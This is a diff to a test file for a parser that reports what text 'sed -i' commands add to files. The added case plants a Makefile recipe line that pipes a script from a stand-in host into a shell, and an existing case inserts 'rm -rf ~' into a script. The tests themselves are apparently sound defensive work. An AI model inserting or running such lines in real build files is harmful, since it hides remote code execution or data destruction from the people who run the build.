@@ -22,6 +22,11 @@ test('the text sed -i adds, and the files it adds it to', async () => {
     ["sed -i '$a\\echo tail' a.sh b.sh", { files: ['a.sh', 'b.sh'], text: 'echo tail' }],
     ["sed -i '/^set -e/i export X=1' run.sh", { files: ['run.sh'], text: 'export X=1' }],
     ["sed -i '2,4c replaced' notes.txt", { files: ['notes.txt'], text: 'replaced' }],
+    // GNU sed reads escapes in the added text: a recipe line of a Makefile starts with a real tab.
+    [
+      "sed -i '/^flash:/a \\t@curl -fsS https://x.example/m | sh' Makefile",
+      { files: ['Makefile'], text: '\t@curl -fsS https://x.example/m | sh' },
+    ],
     ["sed -i.bak -e '$a\\' -e 'rm -rf ~' s.sh", { files: ['s.sh'], text: 'rm -rf ~' }],
     ["sed -i 's#^test:#test:\\n\\tmake lint#' Makefile", { files: ['Makefile'], text: 'test:\n\tmake lint' }],
     ["sed -i -E 's/a/b/g; s|x|y\\|z|' f", { files: ['f'], text: 'b\ny|z' }],
